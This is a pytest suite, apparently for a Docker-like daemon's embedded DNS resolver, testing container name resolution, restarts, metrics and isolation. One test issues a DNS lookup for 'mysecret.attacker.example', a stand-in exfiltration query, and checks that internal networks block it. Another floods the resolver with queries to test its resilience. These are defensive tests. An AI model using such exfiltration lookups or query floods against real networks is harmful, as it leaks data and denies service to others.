"""Names: what programs in containers find by them, and what of it survives the daemon and its resolver."""

from __future__ import annotations

import os
import re
import signal
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path

import pytest
from tests.cli.host_ports import free_port
from tests.cli.remapped import docker_on, remapping
from tests.cli.running import Cli, CommandLine, DaemonProcess, eventually
from tests.fakes import dns
from tests.root.test_sublinks import needs_macvlan

pytestmark = pytest.mark.root


@pytest.fixture
def own(tmp_path_factory: pytest.TempPathFactory, daemon: DaemonProcess, image: str) -> Iterator[CommandLine]:
    """A command line to a daemon of its own, which may be killed, with metrics."""
    yield from _daemon(tmp_path_factory.mktemp("own"), daemon, image, "--metrics-addr", f"127.0.0.1:{free_port()}")


def _daemon(folder: Path, daemon: DaemonProcess, image: str, *options: str) -> Iterator[CommandLine]:
    yield from _run(DaemonProcess(folder, *options), daemon, image)


def _run(process: DaemonProcess, daemon: DaemonProcess, image: str) -> Iterator[CommandLine]:
    cli = CommandLine("carrack", process)
    try:
        process.start()
        cli("load", stdin=CommandLine("carrack", daemon).raw("save", image))
        yield cli
    finally:
        left = cli("ps", "-aq", check=False).stdout.split()
        cli("rm", "-fv", *left, check=False)
        process.stop()


def addresses(text: str) -> list[str]:
    """The addresses in the answers that nslookup prints."""
    return re.findall(r"^Address(?: \d+)?: (\S+)$", text, re.MULTILINE)


def resolved(cli: Cli, container: str, name: str) -> list[str]:
    return addresses(cli("exec", container, "nslookup", name, check=False).stdout)


def address(cli: Cli, container: str) -> str:
    return cli("inspect", "-f", "{{.NetworkSettings.IPAddress}}", container).stdout.strip()


@contextmanager
def inside(cli: Cli, container: str, script: str) -> Iterator[subprocess.Popen[str]]:
    """Python of the host in the container's network, with ``dns`` imported."""
    pid = cli("inspect", "-f", "{{.State.Pid}}", container).stdout.strip()
    start = f"import socket, sys; sys.path[:0] = [{str(Path(__file__).parents[2])!r}]; from tests.fakes import dns\n"
    words = ["nsenter", f"--net=/proc/{pid}/ns/net", sys.executable, "-c", start + script]
    process = subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        yield process
    finally:
        process.kill()
        process.communicate()


@contextmanager
def serving(cli: Cli, container: str, at: str, answer: str) -> Iterator[None]:
    """A name server in a container's network, with one answer to everything."""
    script = f"dns.Server(lambda data: dns.respond(data, [{answer!r}]), {at!r}, 53); print(flush=True); input()"
    with inside(cli, container, script) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "\n"
        yield


@pytest.fixture
def network(docker: Cli) -> Iterator[Callable[..., str]]:
    """Makes networks, which are gone afterwards, with the containers on them."""
    made: list[str] = []

    def make(name: str, *options: str) -> str:
        docker("network", "create", *options, name)
        made.append(name)
        return name

    yield make
    left = docker("ps", "-aq").stdout.split()
    docker("rm", "-fv", *left, check=False)
    docker("network", "rm", *made, check=False)


@pytest.mark.census("network embedded DNS 127.0.0.11", "network host.docker.internal")
def test_containers_on_the_default_bridge_find_each_other(cli: Cli, image: str) -> None:
    for name in ("web", "db"):
        cli("run", "-d", "--name", name, "-h", f"{name}-host", image, "sleep", "1000")
    own, other = address(cli, "web"), address(cli, "db")
    short = cli("inspect", "-f", "{{.Id}}", "db").stdout[:12]
    for name in ("db", "DB", "db.bridge", short):
        assert resolved(cli, "web", name) == [other]
    assert resolved(cli, "web", "web") == [own]
    cli("exec", "web", "ping", "-c", "1", "db")
    assert "name = db.bridge" in cli("exec", "web", "nslookup", other).stdout
    gateway = cli.daemon.subnet.partition("/")[0]
    for name in ("host.docker.internal", "gateway.docker.internal"):
        assert resolved(cli, "web", name) == [gateway]
    cli("rm", "-f", "db")
    assert resolved(cli, "web", "db") == []


@pytest.mark.census("network DNS round robin (aliases)", "network aliases")
def test_those_who_share_an_alias_take_turns(docker: Cli, image: str, network: Callable[..., str]) -> None:
    shop = network("names-shop")
    for name in ("one", "two", "three"):
        docker("run", "-d", "--name", name, "--network", shop, "--network-alias", "pool", image, "sleep", "1000")
    firsts = []
    for _ in range(6):
        found = resolved(docker, "one", "pool")
        assert len(found) == len(set(found)) == 3
        firsts.append(found[0])
    assert len(set(firsts)) == 3
    docker("stop", "-t", "0", "two")
    assert len(resolved(docker, "one", "pool")) == 2
    assert "name = one.names-shop" in docker("exec", "three", "nslookup", resolved(docker, "three", "one")[0]).stdout


@needs_macvlan
def test_names_on_a_network_of_the_hosts_own_link(docker: Cli, image: str, network: Callable[..., str]) -> None:
    """Without any bridge, whose cable brings the resolver's sockets otherwise."""
    parent = f"crkn{os.getpid() % 100_000}"
    subprocess.run(["ip", "link", "add", parent, "type", "veth", "peer", "name", f"{parent}p"], check=True)
    try:
        for link in (parent, f"{parent}p"):
            subprocess.run(["ip", "link", "set", link, "up"], check=True)
        lan = network("names-lan", "-d", "macvlan", "-o", f"parent={parent}", "--subnet", "10.219.7.0/24")
        for number in (2, 3):
            words = ["--network", lan, "--ip", f"10.219.7.{number}"]
            docker("run", "-d", "--name", f"n{number}", *words, image, "sleep", "1000")
        assert resolved(docker, "n2", "n3") == ["10.219.7.3"]
        docker("restart", "-t", "0", "n2")
        assert resolved(docker, "n2", "n3") == ["10.219.7.3"]
        docker("rm", "-f", "n2", "n3")
    finally:
        subprocess.run(["ip", "link", "delete", parent], check=False)


def test_networks_do_not_know_each_other_and_internal_ones_ask_nobody(
    docker: Cli, image: str, network: Callable[..., str]
) -> None:
    front, back = network("names-front"), network("names-back", "--internal")
    docker("run", "-d", "--name", "web", "--network", front, image, "sleep", "1000")
    docker("run", "-d", "--name", "db", "--network", back, image, "sleep", "1000")
    assert resolved(docker, "web", "db") == resolved(docker, "db", "web") == []
    outside = docker("exec", "db", "nslookup", "mysecret.attacker.example", check=False)
    assert "SERVFAIL" in outside.stdout
    docker("network", "connect", "--alias", "shop", back, "web")
    assert resolved(docker, "db", "shop") == resolved(docker, "db", "web") != []
    assert len(resolved(docker, "web", "db")) == 1
    docker("network", "disconnect", back, "web")
    assert resolved(docker, "db", "shop") == []


@pytest.mark.census("network /etc/hosts /etc/resolv.conf /etc/hostname managed")
def test_the_file_names_the_resolver_as_docker_s_does(docker: Cli, image: str) -> None:
    words = ["--dns", "192.0.2.1", "--dns-search", "corp.example", "--dns-option", "timeout:3"]
    text = docker("run", "--rm", *words, image, "cat", "/etc/resolv.conf").stdout
    assert text.splitlines()[3:] == [
        "nameserver 127.0.0.11",
        "search corp.example",
        "options timeout:3 ndots:0",
        "",
        "# Based on host file: '/etc/resolv.conf' (internal resolver)",
        "# ExtServers: [192.0.2.1]",
        "# Overrides: [nameservers search options]",
        "# Option ndots from: internal",
    ]
    own = Path("/etc/resolv.conf").read_text()
    for network, expected in (("host", own.count("127.0.0.11")), ("none", 0)):
        text = docker("run", "--rm", "--network", network, image, "cat", "/etc/resolv.conf").stdout
        assert text.count("127.0.0.11") == expected


def test_a_name_server_may_run_in_the_container(docker: Cli, image: str) -> None:
    """On all addresses, by UDP and TCP; whoever asks it gets its answers, and names still resolve."""
    docker("run", "-d", "--name", "web", image, "sleep", "1000")
    docker("run", "-d", "--name", "server", image, "sleep", "1000")
    with serving(docker, "server", "0.0.0.0", "192.0.2.77"):
        assert resolved(docker, "server", "web") == [address(docker, "web")]
        where = address(docker, "server")
        assert addresses(docker("exec", "web", "nslookup", "far.example", where, check=False).stdout)[0] == "192.0.2.77"
        with inside(
            docker, "web", f"print(dns.read(dns.ask_stream(('{where}', 53), dns.query('a'))[0]).texts)"
        ) as asked:
            assert asked.communicate()[0] == "['192.0.2.77']\n"


def test_resolvers_on_the_hosts_loopback_serve_containers(
    tmp_path_factory: pytest.TempPathFactory, daemon: DaemonProcess, image: str
) -> None:
    """As systemd-resolved and dnsmasq are there; and another one does as soon as resolv.conf names it."""
    folder = tmp_path_factory.mktemp("loopback")
    file = folder / "resolv.conf"
    file.write_text("nameserver 127.77.0.1\nsearch corp.example\n")
    process = DaemonProcess(folder)
    process.wrapper = ["unshare", "--mount", "sh", "-c", 'mount --bind "$0" /etc/resolv.conf && exec "$@"', str(file)]
    with ExitStack() as undo:
        for number in (1, 2):
            answer = f"192.0.2.{number}"
            server = dns.Server(lambda data, answer=answer: dns.respond(data, [answer]), f"127.77.0.{number}", 53)  # type: ignore[misc]
            undo.callback(server.close)
        for cli in _run(process, daemon, image):
            cli("run", "-d", "--name", "web", image, "sleep", "1000")
            assert "search corp.example" in cli("exec", "web", "cat", "/etc/resolv.conf").stdout
            assert "192.0.2.1" in resolved(cli, "web", "far.example")
            file.write_text("nameserver 127.77.0.2\n")
            eventually(lambda cli=cli: "192.0.2.2" in resolved(cli, "web", "far.example"))  # type: ignore[misc]


@pytest.mark.census("network --dns/--dns-search/--dns-option")
def test_servers_that_are_given_are_asked_from_inside(docker: Cli, image: str) -> None:
    """One is another container, which the host's own resolver knows nothing of."""
    docker("run", "-d", "--name", "server", image, "sleep", "1000")
    where = address(docker, "server")
    with serving(docker, "server", where, "192.0.2.77"):
        found = docker("run", "--rm", "--dns", where, image, "nslookup", "far.example", check=False).stdout
        assert "192.0.2.77" in addresses(found)


def test_docker_s_strictness_can_be_had(
    tmp_path_factory: pytest.TempPathFactory, daemon: DaemonProcess, image: str
) -> None:
    for cli in _daemon(tmp_path_factory.mktemp("strict"), daemon, image, "--default-bridge-names=false"):
        cli("run", "-d", "--name", "web", image, "sleep", "1000")
        text = cli("run", "--rm", "--dns", "192.0.2.1", image, "cat", "/etc/resolv.conf").stdout
        assert "nameserver 192.0.2.1" in text.splitlines()
        assert "127.0.0.11" not in text
        # until it is on a network where names are
        cli("network", "create", "names-late")
        cli("run", "-d", "--name", "db", "--network", "names-late", image, "sleep", "1000")
        cli("network", "connect", "names-late", "web")
        assert "127.0.0.11" in cli("exec", "web", "cat", "/etc/resolv.conf").stdout
        eventually(lambda cli=cli: len(resolved(cli, "web", "db")) == 1)  # type: ignore[misc]
        cli.daemon.crash()
        cli.daemon.start()
        assert len(resolved(cli, "web", "db")) == 1
        assert resolved(cli, "db", "web.bridge") == []
        cli("rm", "-f", "web", "db")
        cli("network", "rm", "names-late")


def test_a_restart_of_the_daemon_is_a_pause(own: CommandLine, image: str) -> None:
    """A question that is asked while no daemon runs is answered by the next one's resolver."""
    for name in ("web", "db"):
        own("run", "-d", "--name", name, image, "sleep", "1000")
    pid, wanted = own("inspect", "-f", "{{.State.Pid}}", "web").stdout.strip(), address(own, "db")
    for _ in range(2):
        own.daemon.crash()
        enter = ["nsenter", f"--net=/proc/{pid}/ns/net", "busybox", "nslookup", "-type=a", "db", "127.0.0.11"]
        asking = subprocess.Popen(enter, stdout=subprocess.PIPE, text=True)
        time.sleep(0.2)
        own.daemon.start()
        out, _ = asking.communicate(timeout=30)
        assert (asking.returncode, addresses(out)) == (0, [wanted])
    # what comes and goes afterwards is known, too
    own("run", "-d", "--name", "late", image, "sleep", "1000")
    assert resolved(own, "web", "late") == [address(own, "late")]
    own("rm", "-f", "db")
    assert resolved(own, "web", "db") == []


def resolver_of(daemon: DaemonProcess) -> int:
    """The pid of its resolver process; 0 when there is none just now."""
    assert daemon._process is not None
    children = Path(f"/proc/{daemon._process.pid}/task").glob("*/children")
    for pid in " ".join(file.read_text() for file in children).split():
        if "network/names/__main__.py" in Path(f"/proc/{pid}/cmdline").read_text():
            return int(pid)
    return 0


def test_the_resolver_may_be_killed(own: CommandLine, image: str) -> None:
    for name in ("web", "db"):
        own("run", "-d", "--name", name, image, "sleep", "1000")
    assert resolved(own, "web", "db") == [address(own, "db")]
    first = resolver_of(own.daemon)
    os.kill(first, signal.SIGKILL)
    assert resolved(own, "web", "db") == [address(own, "db")]
    assert resolver_of(own.daemon) not in (0, first)
    # of containers that have ended nothing is left: neither sockets nor namespaces
    own("rm", "-f", "web", "db")
    eventually(lambda: figure(own, "names_sandboxes") == 0)


def test_who_has_left_all_networks_is_let_go_at_his_end(own: CommandLine, image: str) -> None:
    own("network", "create", "names-left")
    own("run", "-d", "--name", "web", "--network", "names-left", image, "sleep", "1000")
    assert resolved(own, "web", "web")
    own("network", "disconnect", "names-left", "web")
    assert figure(own, "names_sandboxes") == 1
    own("rm", "-f", "web")
    eventually(lambda: figure(own, "names_sandboxes") == 0)
    own("network", "rm", "names-left")


def figure(cli: CommandLine, name: str) -> float:
    (place,) = (word for word in cli.daemon._options if word.startswith("127.0.0.1:"))
    with urllib.request.urlopen(f"http://{place}/metrics", timeout=20) as answer:
        page = answer.read().decode()
    (found,) = re.findall(rf"^{name} (\S+)$", page, re.MULTILINE)
    return float(found)


def test_nonsense_is_counted(own: CommandLine, image: str) -> None:
    own("run", "-d", "--name", "web", image, "sleep", "1000")
    script = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'nonsense', ('127.0.0.11', 53))"
    with inside(own, "web", script) as process:
        process.communicate()
    assert resolved(own, "web", "web")
    assert figure(own, "names_malformed_total") == 1
    assert figure(own, "names_asked_total") >= 1


def test_with_users_of_its_own_and_a_sealed_root(tmp_path_factory: pytest.TempPathFactory, image: str) -> None:
    with remapping(tmp_path_factory.mktemp("remapped")) as process, docker_on(process) as cli:
        cli("run", "-d", "--name", "db", image, "sleep", "1000")
        words = ["--read-only", "--cap-drop", "ALL", "-u", "nobody"]
        out = cli("run", "--rm", *words, image, "nslookup", "db", check=False).stdout
        assert addresses(out) == [address(cli, "db")]
        with serving(cli, "db", address(cli, "db"), "192.0.2.77"):  # one that is asked from inside
            out = cli("run", "--rm", *words, "--dns", address(cli, "db"), image, "nslookup", "far", check=False).stdout
            assert "192.0.2.77" in addresses(out)


def test_many_ask_at_once(docker: Cli, image: str) -> None:
    """One that asks without end does not keep others from their answers."""
    for name in ("web", "noisy"):
        docker("run", "-d", "--name", name, image, "sleep", "1000")
    flood = f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(('127.0.0.11', 53))
while True: s.send({dns.query("nowhere.example")!r})"""
    with inside(docker, "noisy", flood):
        for _ in range(5):
            assert resolved(docker, "web", "noisy") == [address(docker, "noisy")]
